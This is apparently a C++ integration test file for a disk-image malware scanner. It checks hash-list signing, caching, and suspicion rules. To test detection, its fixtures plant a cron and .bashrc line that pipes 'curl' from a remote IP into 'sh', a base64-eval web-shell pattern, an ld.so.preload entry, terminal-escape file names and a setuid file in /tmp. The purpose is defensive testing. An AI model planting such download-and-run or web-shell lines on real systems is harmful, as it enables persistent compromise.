// SPDX-License-Identifier: Apache-2.0
// What the provider knows by hash, and what a person should look at: on a real disk, beside a real clamd.
#include "tests/integration/scan/rescan_shop.hpp"

#include <bailiff/json.hpp>

namespace bailiff::test {
namespace {

using Set = std::set<std::string>;

void make_keys(const Workshop& shop) {
    Workshop::run({"openssl", "genpkey", "-algorithm", "ed25519", "-out", shop.path("key.pem")});
    Workshop::run({"openssl", "pkey", "-in", shop.path("key.pem"), "-pubout", "-out", shop.path("key.pub")});
}

/// As a provider makes one: sha256sum, then bailiffctl.
std::string signed_list(const Workshop& shop, const std::string& kind, const std::vector<std::string>& files) {
    std::vector<std::string> sums{"sha256sum"};
    for (const auto& file : files) sums.push_back(shop.tree() + "/" + file);
    std::ofstream(shop.path(kind + ".sums")) << Workshop::run(sums);
    std::ofstream(shop.path(kind)) << Workshop::run({BAILIFF_BIN_DIR "/bailiffctl", "hashes", "sign", "--key", shop.path("key.pem"), "--kind", kind, "--name",
                                                     "our-" + kind, "--version", "3", shop.path(kind + ".sums")});
    return shop.path(kind);
}

class ScanFindings : public testing::Test {
  protected:
    void SetUp() override {
        shop.file("root/eicar.com", eicar());
        shop.file("opt/dropper", "a dropper that no engine knows\n");
        shop.file("opt/tool", "a tool of the provider's own " + eicar());
        shop.file("srv/plain.txt", "nothing");
        image = shop.ext("disk.raw");
        make_keys(shop);
    }
    std::string list(const std::string& kind, const std::vector<std::string>& files) { return signed_list(shop, kind, files); }
    std::vector<std::string> listed(const std::vector<std::string>& lists) const {
        std::vector<std::string> out{"--hash-list-key", shop.path("key.pub")};
        for (const auto& one : lists) out.insert(out.end(), {"--hash-list", one});
        out.push_back(image);
        return with_clamd(out);
    }
    Workshop shop;
    std::string image;
};

TEST_F(ScanFindings, bad_contents_are_hits_and_good_ones_are_not_matched) {
    EXPECT_EQ(scan_image(with_clamd({image})).found(), (Set{"disk /root/eicar.com", "disk /opt/tool"})) << "without lists";
    const auto run = scan_image(listed({list("bad", {"opt/dropper"}), list("good", {"opt/tool"})}));
    EXPECT_EQ(run.found(), (Set{"disk /root/eicar.com", "disk /opt/dropper"})) << run.out << run.err;
    for (const auto& hit : run.verdict.hits)
        if (hit.path == "/opt/dropper") {
            EXPECT_EQ(hit.engine, "hashes");
            EXPECT_EQ(hit.signature, shop.tree() + "/opt/dropper") << "the name that stands in the list";
            EXPECT_EQ(hit.size, 31u);
        }
    EXPECT_EQ(run.verdict.known_good, 1u) << "clamd was not asked: it would have found it";
    EXPECT_EQ(run.verdict.files, 4u);
    ASSERT_EQ(run.verdict.engines.size(), 3u);
    EXPECT_TRUE(run.verdict.engines[1].version.starts_with("our-bad 3 (bad, 1 contents")) << run.verdict.engines[1].version;
    EXPECT_TRUE(run.verdict.engines[2].set.starts_with("hashes good "));
}

TEST_F(ScanFindings, what_is_in_both_is_bad_and_the_cache_hides_nothing) {
    auto arguments = listed({list("good", {"opt/dropper", "srv/plain.txt"})});
    std::filesystem::create_directory(shop.path("rules"));
    std::ofstream(shop.path("rules/one.yar")) << "rule never { strings: $a = \"never there at all\" condition: $a }\n";
    arguments.insert(arguments.begin(), {"--cache", shop.path("verdicts.sqlite"), "--yara", shop.path("rules")});
    EXPECT_EQ(scan_image(arguments).verdict.known_good, 2u);
    arguments.insert(arguments.begin(), {"--hash-list", list("bad", {"opt/dropper", "root/eicar.com"})});
    for (int i = 0; i < 2; ++i) {
        const auto run = scan_image(arguments);
        EXPECT_EQ(run.found(), (Set{"disk /root/eicar.com", "disk /opt/dropper", "disk /opt/tool"})) << run.out;
        EXPECT_EQ(run.verdict.known_good, 1u);
    }
}

TEST_F(ScanFindings, a_list_that_is_not_believed_ends_the_scan_with_its_remedy) {
    const auto bad = list("bad", {"opt/dropper"});
    Workshop::run({"openssl", "genpkey", "-algorithm", "ed25519", "-out", shop.path("other.pem")});
    Workshop::run({"openssl", "pkey", "-in", shop.path("other.pem"), "-pubout", "-out", shop.path("other.pub")});
    auto wrong = listed({bad});
    wrong[3] = shop.path("other.pub");
    EXPECT_EQ(scan_image(wrong).exit, 2);
    EXPECT_NE(scan_image(wrong).err.find("--hash-list-key"), std::string::npos) << scan_image(wrong).err;
    std::fstream(bad, std::ios::in | std::ios::out | std::ios::ate) << std::string(64, 'f') << " Added\n";
    const auto added = scan_image(listed({bad}));
    EXPECT_EQ(added.exit, 2);
    EXPECT_NE(added.err.find("more entries than were signed"), std::string::npos) << added.err;
    EXPECT_EQ(scan_image(listed({shop.path("bad.sums")})).exit, 2) << "unsigned";
}

TEST_F(ScanFindings, what_is_suspicious_is_told_with_its_reason_and_changes_no_verdict) {
    Workshop odd;
    odd.file("etc/cron.d/update", "*/5 * * * * root curl -s http://203.0.113.9/x | sh\n");
    odd.file("var/www/html/wp-content/uploads/a\nb\xff\x1b[31m.php", "<?php echo 1;");
    odd.file("var/www/html/index.php", "<?php \x1b[2J eval(base64_decode($x));");
    odd.file("etc/ld.so.preload", "/lib/lib\x1b]0;evil\x07.so\n");
    odd.file("etc/cron.d/honest", "17 * * * * root cd / && run-parts --report /etc/cron.hourly\n");
    odd.file("root/.ssh/authorized_keys", "ssh-ed25519 AAAA root@office\n");
    odd.file("tmp/su", "not really a program");
    std::filesystem::permissions(odd.tree() + "/tmp/su", std::filesystem::perms{04755});
    const std::string disk = odd.ext("disk.raw");
    const auto run = scan_image(with_clamd({disk}));
    EXPECT_EQ(run.exit, 0) << run.out << run.err;
    std::map<std::string, std::string> told;
    for (const auto& one : run.verdict.suspicious) told[one.path] = std::string(name(one.rule)) + ": " + one.reason;
    EXPECT_EQ(told, (std::map<std::string, std::string>{
                        {"/etc/cron.d/update", "cron_download: pipes a download, or what it decodes, into sh: '*/5 * * * * root curl -s http://203.0.113.9/x | sh'"},
                        {"/var/www/html/wp-content/uploads/a\\x0ab\\xff\\x1b[31m.php", "php_in_uploads: PHP stands among what visitors uploaded"},
                        {"/var/www/html/index.php", "web_shell: has the shape of a web shell: eval(base64_decode("},
                        {"/etc/ld.so.preload", "ld_preload: a library is loaded into every program: '/lib/lib\\x1b]0;evil\\x07.so'"},
                        {"/tmp/su", "setuid_place: a set-user-ID program lies in a temporary folder"}}));
    EXPECT_EQ(run.verdict.suspicious_total, 5u);
    EXPECT_EQ(run.verdict.suspicious.at(0).volume, "disk");
    for (const auto& one : run.verdict.suspicious)
        if (one.path == "/etc/cron.d/update") {
            EXPECT_EQ(one.sha256, Workshop::run({"sha256sum", odd.tree() + "/etc/cron.d/update"}).substr(0, 64));
            EXPECT_EQ(one.size, 51u);
        }
    EXPECT_NE(run.out.find("\"finding\":\"suspicious\""), std::string::npos) << "as lines, too";

    // For people: one line each, and nothing in it steers a terminal.
    const auto text = Workshop::run({BAILIFF_BIN_DIR "/bailiff-scan", "--clamd", shared_clamd().socket_path(), disk});
    EXPECT_NE(text.find("SUSPICIOUS disk /etc/cron.d/update: pipes a download"), std::string::npos) << text;
    EXPECT_NE(text.find("5 suspicious, for a person to look at"), std::string::npos) << text;
    EXPECT_EQ(text.find('\x1b'), std::string::npos);

    // The same again with everything known: suspicions come from the disk and not from engines.
    const std::vector<std::string> cached{"--cache", odd.path("v.sqlite"), "--clamd", shared_clamd().socket_path(), "--clamd-database", shared_clamd().folder() + "/db", disk};
    scan_image(cached);
    const auto again = scan_image(cached);
    EXPECT_EQ(again.verdict.known, again.verdict.files);
    EXPECT_EQ(again.verdict.suspicious, run.verdict.suspicious);
}

TEST(RescanFindings, a_scan_of_what_changed_tells_the_same_suspicions_and_asks_the_lists) {
    RescanShop shop;
    shop.file("etc/cron.d/update", "* * * * * root curl -s http://203.0.113.9/x | sh\n");
    for (const char* name : {"opt/dropper", "opt/tool", "srv/plain"}) shop.file(name, std::string(6000, name[4]) + name);
    shop.begin(shop.ext("disk.raw"));
    make_keys(shop);
    const auto cold = shop.scan();
    EXPECT_EQ(cold.verdict.suspicious.size(), 1u) << cold.out;
    const auto again = shop.scan();
    EXPECT_EQ(again.verdict.unchanged, 3u) << "what is suspicious is read again";
    EXPECT_EQ(again.verdict.suspicious, cold.verdict.suspicious);
    // Lists that came after the state was written.
    const std::vector<std::string> listed{"--dirty-bitmap", "b0", "--hash-list-key", shop.path("key.pub"), "--hash-list", signed_list(shop, "bad", {"opt/dropper"}),
                                          "--hash-list", signed_list(shop, "good", {"opt/tool"})};
    for (int i = 0; i < 2; ++i) {
        const auto run = shop.scan(listed);
        EXPECT_EQ(run.found(), Set{"disk /opt/dropper"}) << run.out << run.err;
        EXPECT_EQ(run.verdict.known_good, 1u);
        EXPECT_EQ(run.verdict.unchanged, 2u) << "the good one and the plain one";
        EXPECT_EQ(run.verdict.suspicious, cold.verdict.suspicious);
    }
}

TEST_F(ScanFindings, other_filesystems_tell_it_too) {
    if (!std::filesystem::exists("/sbin/mkfs.xfs")) GTEST_SKIP() << "mkfs.xfs is not installed (package xfsprogs)";
    Workshop odd;
    odd.file(".bashrc", "curl -s http://203.0.113.9/x | sh\n");
    const auto run = scan_image(with_clamd({odd.xfs("xfs.raw", {".bashrc"})}));
    ASSERT_EQ(run.verdict.suspicious.size(), 1u) << run.out;
    EXPECT_EQ(run.verdict.suspicious[0].rule, agent::SuspicionRule::login_download);
}

}  // namespace
}  // namespace bailiff::test
